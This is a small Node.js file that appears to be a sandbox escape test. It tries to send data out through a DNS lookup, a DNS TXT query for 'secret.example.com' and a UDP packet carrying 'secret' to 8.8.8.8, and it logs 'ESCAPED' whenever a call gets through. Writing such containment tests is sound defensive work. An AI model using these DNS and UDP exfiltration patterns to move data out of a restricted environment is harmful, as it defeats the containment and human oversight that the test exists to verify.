// tries: to smuggle data out by DNS and UDP
// ends: -
import { createSocket } from 'node:dgram';
import { lookup, resolve } from 'node:dns/promises';
import { WebSocketServer } from 'ws';

lookup('example.com').then(
  () => console.log('ESCAPED lookup'),
  () => undefined,
);
resolve('secret.example.com', 'TXT').then(
  () => console.log('ESCAPED resolve'),
  () => undefined,
);
try {
  createSocket('udp4')
    .on('error', () => undefined)
    .send('secret', 53, '8.8.8.8', (error) => {
      if (error === null) console.log('ESCAPED udp');
    });
} catch {
  // Not allowed.
}

new WebSocketServer({ port: Number(process.env.PORT) }).on('connection', (socket) => socket.send('no echo'));
